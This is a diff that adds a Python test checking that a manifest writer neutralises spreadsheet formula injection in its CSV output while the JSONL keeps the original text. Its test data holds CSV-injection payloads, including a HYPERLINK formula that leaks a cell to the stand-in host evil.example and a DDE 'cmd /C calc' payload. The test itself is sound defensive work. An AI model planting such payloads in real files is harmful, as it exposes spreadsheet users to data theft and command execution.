@@ -42,3 +42,46 @@ def test_the_csv_table_is_rewritten_whole_at_most_so_often(tmp_path: Path) -> No
     assert rows[0] == list(COLUMNS)
     assert rows[1][:5] == ["0", "done", "", "", "x.png; y.png"]
     assert not list(tmp_path.glob(".*part"))
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_no_cell_of_the_csv_table_starts_a_formula_and_the_jsonl_keeps_the_text(
+    tmp_path: Path,
+) -> None:
+    """Every text a gateway or a row sends, formula-shaped, in every column."""
+    manifest = Manifest(tmp_path, "b")
+    records = [
+        {
+            "row": i,
+            "status": text,
+            "endpoint": text,
+            "request_id": text,
+            "files": [text, "ok.png"],
+            "error": text,
+            "payload": {"prompt": text},
+            "updated_at": text,
+        }
+        for i, text in enumerate(FORMULAS)
+    ]
+    for record in records:
+        manifest.event(record)
+    manifest.table(records, force=True)
+    manifest.close()
+    with open(tmp_path / "manifest.csv", encoding="utf-8", newline="") as fh:
+        header, *rows = list(csv.reader(fh))
+    assert header == list(COLUMNS) and len(rows) == len(FORMULAS)
+    for text, row in zip(FORMULAS, rows, strict=True):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (text, cell)
+        assert row[COLUMNS.index("request_id")] == "'" + text  # shown as the text it was
+        assert row[COLUMNS.index("files")] == f"'{text}; ok.png"
+    assert [r["request_id"] for r in read_manifest(tmp_path).values()] == FORMULAS
